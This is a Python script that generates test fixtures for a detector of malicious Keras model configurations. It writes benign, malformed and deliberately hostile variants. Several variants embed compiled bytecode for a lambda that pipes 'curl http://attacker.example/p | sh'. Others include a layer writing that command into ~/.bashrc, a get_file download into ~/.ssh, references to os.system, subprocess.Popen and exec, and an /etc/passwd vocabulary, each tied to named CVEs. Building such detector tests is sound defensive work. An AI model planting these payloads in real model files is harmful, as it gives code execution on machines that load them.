"""Generates Keras model configs for the Keras config detector tests.

Usage: /usr/bin/python3 gen_keras_config.py <testdata-dir>

Writes <testdata-dir>/keras_config/ with an index.json describing every file:
  corpus/benign/, corpus/benign-lambda/, corpus/malicious/  configs taken unchanged from the real models in
      ../shared/corpus/keras (config.json of .keras zips, model_config / training_config attributes of .h5
      files read with h5py, and the JSON text of the exploit .h5 files found by parsing their bytes, never by
      loading them), plus the node metadata of the corpus's SavedModel keras_metadata.pb. Absent when the
      corpus is absent.
  variants/  real configs (the corpus models when present, otherwise built-in templates of the same shape)
      modified the way attackers do: Lambda payloads in nested models and wrappers, function references,
      gadgets, TorchModuleWrapper, TFSMLayer, file vocabularies, custom objects, duplicate keys...
  malformed/  broken configs.

Bytecode payloads are produced with this interpreter's compile() and marshal.dumps(): nothing is executed.
"""

import base64
import codecs
import copy
import io
import json
import marshal
import os
import sys
import types
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]


def corpus_dir():
    override = os.environ.get("MS_SHARED_CORPUS")
    path = Path(override) if override else ROOT.parent / "shared" / "corpus"
    return path if (path / "keras").is_dir() else None


# --- bytecode, as Keras' func_dump writes it ------------------------------------------------------------


def lambda_code(source):
    module = compile(source, "<lambda-source>", "eval")
    return next(c for c in module.co_consts if isinstance(c, types.CodeType))


def func_dump_base64(source):
    return codecs.encode(marshal.dumps(lambda_code(source)), "base64").decode("ascii")


def func_dump_raw(source):
    """Keras 1: marshal bytes as a raw_unicode_escape text (every byte one code point below 256)."""
    raw = marshal.dumps(lambda_code(source))
    text = raw.decode("raw_unicode_escape")
    assert text.encode("raw_unicode_escape") == raw
    return text


PAYLOAD = "lambda x: __import__('os').system('curl http://attacker.example/p | sh') or x"
SYSTEM_NAME_ONLY = "lambda x: system('id') or x"
ARITHMETIC = "lambda x: x * 2.0 + 1.0"
OPS_MEAN = "lambda x: ops.mean(x, axis=1)"

# --- templates used when the corpus is absent (same shapes as Keras 3.12 / Keras 2.2 output) ------------


def dtype_policy():
    return {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}


def keras_tensor(shape, history):
    return {"class_name": "__keras_tensor__", "config": {"shape": shape, "dtype": "float32", "keras_history": history}}


def k3_dense(name, units, input_dim):
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {
            "name": name, "trainable": True, "dtype": dtype_policy(), "units": units, "activation": "relu",
            "use_bias": True,
            "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform",
                                   "config": {"seed": None}, "registered_name": None},
            "bias_initializer": {"module": "keras.initializers", "class_name": "Zeros", "config": {},
                                 "registered_name": None},
            "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None, "bias_constraint": None,
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, input_dim]},
    }


def template_k3_functional():
    dense = k3_dense("dense", 4, 8)
    dense["name"] = "dense"
    dense["inbound_nodes"] = [{"args": [keras_tensor([None, 8], ["input_layer", 0, 0])], "kwargs": {}}]
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": "functional", "trainable": True,
            "layers": [
                {"module": "keras.layers", "class_name": "InputLayer",
                 "config": {"batch_shape": [None, 8], "dtype": "float32", "sparse": False, "ragged": False,
                            "name": "input_layer"},
                 "registered_name": None, "name": "input_layer", "inbound_nodes": []},
                dense,
            ],
            "input_layers": ["input_layer", 0, 0],
            "output_layers": ["dense", 0, 0],
        },
        "registered_name": "Functional",
        "build_config": {"input_shape": None},
        "compile_config": {
            "optimizer": {"module": "keras.optimizers", "class_name": "Adam",
                          "config": {"name": "adam", "learning_rate": 0.001}, "registered_name": None},
            "loss": "sparse_categorical_crossentropy", "loss_weights": None, "metrics": ["accuracy"],
            "weighted_metrics": None, "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False,
        },
    }


def template_k3_sequential():
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential", "trainable": True, "dtype": dtype_policy(),
            "layers": [
                {"module": "keras.layers", "class_name": "InputLayer",
                 "config": {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "ragged": False,
                            "name": "input_layer"}, "registered_name": None},
                k3_dense("dense", 8, 4),
            ],
            "build_input_shape": [None, 4],
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
    }


def k2_dense(name, units):
    return {"class_name": "Dense",
            "config": {"name": name, "trainable": True, "units": units, "activation": "relu", "use_bias": True,
                       "kernel_initializer": {"class_name": "VarianceScaling",
                                              "config": {"scale": 1.0, "mode": "fan_avg",
                                                         "distribution": "uniform", "seed": None}},
                       "bias_initializer": {"class_name": "Zeros", "config": {}},
                       "kernel_regularizer": None, "bias_regularizer": None, "activity_regularizer": None,
                       "kernel_constraint": None, "bias_constraint": None}}


def template_k2_list_sequential():
    return {"class_name": "Sequential", "config": [k2_dense("dense_1", 16), k2_dense("dense_2", 3)]}


def template_k2_model():
    dense = k2_dense("dense_1", 4)
    dense["name"] = "dense_1"
    dense["inbound_nodes"] = [[["input_1", 0, 0, {}]]]
    return {"class_name": "Model",
            "config": {"name": "model_1",
                       "layers": [{"name": "input_1", "class_name": "InputLayer",
                                   "config": {"batch_input_shape": [None, 8], "dtype": "float32", "sparse": False,
                                              "name": "input_1"}, "inbound_nodes": []}, dense],
                       "input_layers": [["input_1", 0, 0]], "output_layers": [["dense_1", 0, 0]]}}


def template_k2_training_config():
    return {"optimizer_config": {"class_name": "Adam", "config": {"lr": 0.001, "beta_1": 0.9}},
            "loss": "categorical_crossentropy", "metrics": ["accuracy"], "sample_weight_mode": None,
            "loss_weights": None}


# --- the real corpus ----------------------------------------------------------------------------------------


def read_keras_zip(path):
    with zipfile.ZipFile(path) as archive:
        config = json.loads(archive.read("config.json"))
        claim = ""
        if "metadata.json" in archive.namelist():
            claim = json.loads(archive.read("metadata.json")).get("keras_version", "")
    return [("config", config, "keras_v3", claim)]


def read_h5(path):
    import h5py  # only the generator reads HDF5 through h5py; the scanner has its own reader

    out = []
    with h5py.File(path, "r") as f:
        claim = f.attrs.get("keras_version", "")
        claim = claim.decode() if isinstance(claim, bytes) else str(claim)
        for key in ("model_config", "training_config"):
            if key in f.attrs:
                value = f.attrs[key]
                value = value.decode() if isinstance(value, bytes) else value
                out.append((key, json.loads(value), "legacy_h5", claim))
    return out


def json_documents_in_bytes(data):
    """JSON objects embedded in a file's bytes (the attribute values of an HDF5 file), by parsing only."""
    text = data.decode("latin-1")
    decoder = json.JSONDecoder()
    found, i = [], 0
    while True:
        j = text.find('{"', i)
        if j < 0:
            return found
        try:
            value, end = decoder.raw_decode(text[j:])
            found.append(value)
            i = j + end
        except ValueError:
            i = j + 2


def collect_corpus(corpus, out_dir, index):
    bases = {}
    for group in ("benign", "benign-lambda", "malicious"):
        folder = corpus / "keras" / group
        if not folder.is_dir():
            continue
        for path in sorted(folder.iterdir()):
            if group == "malicious":
                # Exploit files are never opened with h5py: their JSON attributes are found in the raw bytes.
                documents = [d for d in json_documents_in_bytes(path.read_bytes()) if isinstance(d, dict)]
                members = []
                for document in documents:
                    key = "model_config" if "class_name" in document else "training_config"
                    members.append((key, document, "legacy_h5", ""))
            elif zipfile.is_zipfile(path):
                members = read_keras_zip(path)
            else:
                members = read_h5(path)
            for member, config, container, claim in members:
                name = f"corpus/{group}/{path.name}.{member}.json"
                write_json(out_dir / name, config)
                index.append({"file": name, "group": group, "container": container, "claim": claim,
                              "origin": "corpus", "source": path.name})
                bases[(path.name, member)] = config
    # SavedModel Keras metadata: the node metadata JSON documents of a real keras_metadata.pb (whose protobuf
    # framing is damaged; the JSON text inside is intact), found by parsing its bytes.
    folder = corpus / "savedmodel" / "malformed"
    if folder.is_dir():
        for path in sorted(folder.glob("*keras_metadata.pb")):
            documents = [d for d in json_documents_in_bytes(path.read_bytes()) if isinstance(d, dict)]
            for number, document in enumerate(documents):
                name = f"corpus/benign/{path.name}.node{number}.json"
                write_json(out_dir / name, document)
                index.append({"file": name, "group": "benign", "container": "saved_model", "claim": "",
                              "origin": "corpus", "source": path.name})
    return bases


# --- variants -------------------------------------------------------------------------------------------------


def k3_lambda(name, function, arguments=None, module="keras.layers", class_name="Lambda"):
    return {"module": module, "class_name": class_name,
            "config": {"name": name, "trainable": True, "dtype": dtype_policy(), "function": function,
                       "arguments": arguments or {}},
            "registered_name": None, "build_config": {"input_shape": [None, 8]}}


def k3_lambda_code(source):
    return {"class_name": "__lambda__",
            "config": {"code": func_dump_base64(source), "defaults": None, "closure": None}}


def k3_function(module, name, registered_name=None):
    return {"module": module, "class_name": "function", "config": name, "registered_name": registered_name}


def k2_lambda(name, function, function_type="lambda", module="__main__", **extra):
    config = {"name": name, "trainable": True, "dtype": "float32", "function": function,
              "function_type": function_type, "module": module, "output_shape": None,
              "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}
    config.update(extra)
    return {"class_name": "Lambda", "config": config}


def layers_of(config):
    inner = config["config"]
    return inner if isinstance(inner, list) else inner["layers"]


def make_variants(bases, out_dir, index):
    def base(key, template):
        found = bases.get(key)
        return (copy.deepcopy(found), "corpus") if found is not None else (template(), "template")

    k3_functional, origin_f = base(("Anaya-Koirala__melody-generating-lstm-cs371__model.keras", "config"),
                                   template_k3_functional)
    k3_sequential, origin_s = base(("2mdtln__FlowNet-ANN__25-06_model.keras", "config"), template_k3_sequential)
    k2_list, origin_l = base(("0xArt__CryptoANN__model.h5", "model_config"), template_k2_list_sequential)
    k2_model, origin_m = base(("15louafi__EnglishToKatakanaSeq2Seq__model.h5", "model_config"), template_k2_model)
    k2_training, origin_t = base(("0xArt__CryptoANN__model.h5", "training_config"), template_k2_training_config)

    def emit(name, config, origin, container="keras_v3", claim="", raw_text=None):
        path = f"variants/{name}.json"
        if raw_text is None:
            write_json(out_dir / path, config)
        else:
            (out_dir / path).write_text(raw_text, encoding="utf-8")
        index.append({"file": path, "group": "variant", "container": container, "claim": claim, "origin": origin})

    # Nested Lambda inside a Sequential inside a Functional.
    v = copy.deepcopy(k3_functional)
    inner = template_k3_sequential()
    inner["config"]["name"] = "inner_sequential"
    layers_of(inner).append(k3_lambda("payload", k3_lambda_code(PAYLOAD)))
    layers_of(v).append(inner)
    emit("k3_nested_lambda_payload", v, origin_f, claim="3.12.1")

    # module "keras" + class_name "layers.Lambda" resolves to the Lambda layer through the public API name.
    v = copy.deepcopy(k3_sequential)
    layers_of(v).append(k3_lambda("payload", k3_lambda_code(PAYLOAD), module="keras", class_name="layers.Lambda"))
    emit("k3_module_keras_layers_lambda", v, origin_s)

    # The same class through an internal module path.
    v = copy.deepcopy(k3_sequential)
    layers_of(v).append(k3_lambda("payload", k3_lambda_code(PAYLOAD),
                                  module="keras.src.layers.core.lambda_layer"))
    emit("k3_internal_module_lambda", v, origin_s)

    # Harmless Lambdas: still code that runs, reported high with what they reference.
    v = copy.deepcopy(k3_sequential)
    layers_of(v).append(k3_lambda("scale", k3_lambda_code(ARITHMETIC)))
    emit("k3_lambda_arithmetic", v, origin_s)
    v = copy.deepcopy(k3_sequential)
    layers_of(v).append(k3_lambda("mean", k3_lambda_code(OPS_MEAN)))
    emit("k3_lambda_ops_mean", v, origin_s)

    # Lambda inside wrappers.
    v = copy.deepcopy(k3_sequential)
    layers_of(v).append({"module": "keras.layers", "class_name": "TimeDistributed",
                         "config": {"name": "time_distributed", "trainable": True, "dtype": dtype_policy(),
                                    "layer": k3_lambda("payload", k3_lambda_code(PAYLOAD))},
                         "registered_name": None})
    emit("k3_time_distributed_lambda", v, origin_s)
    v = copy.deepcopy(k3_sequential)
    lstm = {"module": "keras.layers", "class_name": "LSTM",
            "config": {"name": "forward_lstm", "units": 4, "activation": "tanh", "recurrent_activation": "sigmoid"},
            "registered_name": None}
    layers_of(v).append({"module": "keras.layers", "class_name": "Bidirectional",
                         "config": {"name": "bidirectional", "merge_mode": "concat", "layer": lstm,
                                    "backward_layer": k3_lambda("payload", k3_lambda_code(PAYLOAD))},
                         "registered_name": None})
    emit("k3_bidirectional_lambda", v, origin_s)

    # Function references (CVE-2025-1550): as an activation, a loss and an initializer.
    v = copy.deepcopy(k3_sequential)
    layers_of(v)[-1]["config"]["activation"] = k3_function("os", "system")
    emit("k3_activation_os_system", v, origin_s, claim="3.8.0")
    v = copy.deepcopy(k3_functional)
    v.setdefault("compile_config", {})["loss"] = k3_function("subprocess", "Popen")
    emit("k3_loss_subprocess_popen", v, origin_f)
    v = copy.deepcopy(k3_sequential)
    layers_of(v)[-1]["config"]["kernel_initializer"] = k3_function("builtins", "exec", "function")
    emit("k3_initializer_builtins_exec", v, origin_s)
    v = copy.deepcopy(k3_functional)
    v.setdefault("compile_config", {})["loss"] = k3_function("builtins", "my_focal_loss", "function")
    emit("k3_custom_function_loss", v, origin_f)
    v = copy.deepcopy(k3_sequential)
    layers_of(v)[-1]["config"]["activation"] = k3_function("numpy", "load")
    emit("k3_activation_numpy_load", v, origin_s)

    # Gadgets: get_file with a URL (CVE-2025-8747), enable_unsafe_deserialization then a Lambda (CVE-2025-9906).
    v = copy.deepcopy(k3_sequential)
    layers_of(v).append(k3_lambda("fetch", k3_function("keras.utils", "get_file"),
                                  arguments={"origin": "http://attacker.example/payload.bin",
                                             "cache_dir": "/tmp", "cache_subdir": "../../home/user/.ssh"}))
    emit("k3_gadget_get_file", v, origin_s, claim="3.10.0")
    v = copy.deepcopy(k3_sequential)
    layers_of(v).insert(1, k3_lambda("unlock", k3_function("keras.config", "enable_unsafe_deserialization")))
    layers_of(v).append(k3_lambda("payload", k3_lambda_code(PAYLOAD)))
    emit("k3_gadget_enable_unsafe_then_lambda", v, origin_s)

    # TorchModuleWrapper with a real torch.save() blob (CVE-2025-49655).
    v = copy.deepcopy(k3_sequential)
    layers_of(v).append({"module": "keras.layers", "class_name": "TorchModuleWrapper",
                         "config": {"name": "torch_module_wrapper", "trainable": True, "dtype": dtype_policy(),
                                    "module": torch_blob(), "output_shape": None},
                         "registered_name": None})
    emit("k3_torch_module_wrapper", v, origin_s, claim="3.11.1")

    # TFSMLayer (CVE-2026-1462) and a TF-Hub KerasLayer.
    for name, path in (("k3_tfsm_layer_absolute", "/tmp/attacker_saved_model"),
                       ("k3_tfsm_layer_relative", "exported_model")):
        v = copy.deepcopy(k3_sequential)
        layers_of(v).append({"module": "keras.layers", "class_name": "TFSMLayer",
                             "config": {"name": "tfsm_layer", "trainable": True, "dtype": dtype_policy(),
                                        "filepath": path, "call_endpoint": "serve",
                                        "call_training_endpoint": None},
                             "registered_name": None})
        emit(name, v, origin_s)
    v = copy.deepcopy(k3_sequential)
    layers_of(v).append({"module": "tensorflow_hub.keras_layer", "class_name": "KerasLayer",
                         "config": {"name": "keras_layer", "trainable": False, "dtype": "float32",
                                    "handle": "https://tfhub.dev/google/imagenet/mobilenet_v2_100_224/feature_vector/5"},
                         "registered_name": "tensorflow_hub>KerasLayer"})
    emit("k3_hub_layer", v, origin_s)

    # A lookup layer reading a local file (CVE-2025-12058), and a keras_hub tokenizer with file parameters.
    v = copy.deepcopy(k3_sequential)
    layers_of(v).insert(0, {"module": "keras.layers", "class_name": "StringLookup",
                            "config": {"name": "string_lookup", "trainable": False, "dtype": "int64",
                                       "max_tokens": None, "num_oov_indices": 1, "mask_token": None,
                                       "oov_token": "[UNK]", "vocabulary": "/etc/passwd", "idf_weights": None,
                                       "output_mode": "int", "sparse": False, "encoding": "utf-8"},
                            "registered_name": None})
    emit("k3_string_lookup_vocabulary_file", v, origin_s)
    v = copy.deepcopy(k3_sequential)
    layers_of(v).insert(0, {"module": "keras_hub.src.tokenizers.byte_pair_tokenizer", "class_name": "BytePairTokenizer",
                            "config": {"name": "tokenizer", "vocabulary": "vocab.json",
                                       "merges": "gs://attacker-bucket/merges.txt", "sequence_length": None},
                            "registered_name": "keras_hub>BytePairTokenizer"})
    emit("k3_tokenizer_file_parameters", v, origin_s)

    # Custom registered objects (allow-listable), and an unknown class with module null.
    v = copy.deepcopy(k3_sequential)
    layers_of(v).append({"module": "my_package.layers", "class_name": "MyDense",
                         "config": {"name": "my_dense", "units": 4}, "registered_name": "my_package>MyDense"})
    layers_of(v).append({"module": None, "class_name": "Scaler", "config": {"name": "scaler"},
                         "registered_name": "Custom>Scaler"})
    emit("k3_custom_objects", v, origin_s)

    # Duplicate keys: Python's json keeps the last value, so this layer is a Lambda.
    v = copy.deepcopy(k3_sequential)
    marker = {"__duplicate_marker__": True}
    layers_of(v).append(marker)
    text = json.dumps(v, indent=1)
    lambda_config = json.dumps({"name": "payload", "function": k3_lambda_code(PAYLOAD), "arguments": {}})
    text = text.replace('"__duplicate_marker__": true',
                        '"module": "keras.layers", "class_name": "Dense", "config": ' + lambda_config +
                        ', "class_name": "Lambda", "registered_name": null')
    emit("k3_duplicate_key_lambda", None, origin_s, raw_text=text)

    # Keras 2 forms.
    v = copy.deepcopy(k2_model)
    layers_of(v).append(k2_lambda("lambda_1", [func_dump_base64(PAYLOAD), None, None]))
    emit("k2_lambda_payload", v, origin_m, container="legacy_h5", claim="2.2.4")
    v = copy.deepcopy(k2_list)
    layers_of(v).insert(0, k2_lambda("lambda_1", [func_dump_base64(PAYLOAD), None, None]))
    emit("k2_list_form_lambda", v, origin_l, container="legacy_h5", claim="2.2.2")
    v = copy.deepcopy(k2_list)
    layers_of(v).insert(0, k2_lambda("lambda_1", func_dump_raw(PAYLOAD)))
    emit("k1_lambda_raw_string", v, origin_l, container="legacy_h5")
    v = copy.deepcopy(k2_model)
    layers_of(v).append(k2_lambda("lambda_1", "system", function_type="function", module="os"))
    emit("k2_lambda_function_name_os", v, origin_m, container="legacy_h5")
    v = copy.deepcopy(k2_model)
    layers_of(v).append(k2_lambda("lambda_1", "preprocess", function_type="function", module="__main__"))
    emit("k2_lambda_function_name_main", v, origin_m, container="legacy_h5")
    v = copy.deepcopy(k2_model)
    layers_of(v).append(k2_lambda("lambda_1", [func_dump_base64(ARITHMETIC), None, None], module="os"))
    emit("k2_lambda_globals_os", v, origin_m, container="legacy_h5")
    v = copy.deepcopy(k2_model)
    layers_of(v).append(k2_lambda("lambda_1", [func_dump_base64(ARITHMETIC), None, None],
                                  output_shape=[func_dump_base64("lambda s: s")], output_shape_type="lambda"))
    emit("k2_lambda_output_shape", v, origin_m, container="legacy_h5")
    v = copy.deepcopy(k2_model)
    layers_of(v).append({"class_name": "TFOpLambda",
                         "config": {"name": "tf.io.write_file", "trainable": True, "dtype": "float32",
                                    "function": "io.write_file"},
                         "name": "tf.io.write_file",
                         "inbound_nodes": [["dense_1", 0, 0, {"filename": "/home/user/.bashrc",
                                                             "contents": "curl http://attacker.example | sh"}]]})
    emit("k2_tf_op_lambda_write_file", v, origin_m, container="saved_model")
    v = copy.deepcopy(k2_training)
    v["loss"] = "my_custom_loss"
    emit("k2_training_config_custom_loss", v, origin_t, container="legacy_h5")


def torch_blob():
    import torch

    torch.manual_seed(0)
    buffer = io.BytesIO()
    torch.save(torch.nn.Linear(2, 2), buffer)
    return base64.b64encode(buffer.getvalue()).decode("ascii")


def make_malformed(out_dir, index):
    def emit(name, text):
        path = f"malformed/{name}.json"
        (out_dir / path).write_text(text, encoding="utf-8")
        index.append({"file": path, "group": "malformed", "container": "keras_v3", "claim": "", "origin": "template"})

    emit("top_level_string", json.dumps("not a model"))
    emit("class_name_number", json.dumps({"class_name": 42, "config": {}}))
    emit("module_list", json.dumps({"module": ["os"], "class_name": "Dense", "config": {}}))
    emit("lambda_not_base64", json.dumps(k3_lambda("bad", {"class_name": "__lambda__",
                                                           "config": {"code": "!!not base64 @@", "defaults": None,
                                                                      "closure": None}})))
    truncated = marshal.dumps(lambda_code(PAYLOAD))[:40]
    emit("lambda_truncated_marshal", json.dumps(k3_lambda("bad", {"class_name": "__lambda__",
                                                                  "config": {"code": base64.b64encode(truncated).decode(),
                                                                             "defaults": None, "closure": None}})))


def write_json(path, value):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(value, indent=1), encoding="utf-8")


def main():
    out_dir = Path(sys.argv[1]) / "keras_config"
    for sub in ("variants", "malformed"):
        (out_dir / sub).mkdir(parents=True, exist_ok=True)
    index = []
    corpus = corpus_dir()
    bases = collect_corpus(corpus, out_dir, index) if corpus else {}
    if corpus is None:
        print("gen_keras_config: ../shared/corpus absent; corpus-derived configs skipped, templates used")
    make_variants(bases, out_dir, index)
    make_malformed(out_dir, index)
    write_json(out_dir / "index.json", {"corpus": corpus is not None, "files": index})


if __name__ == "__main__":
    main()
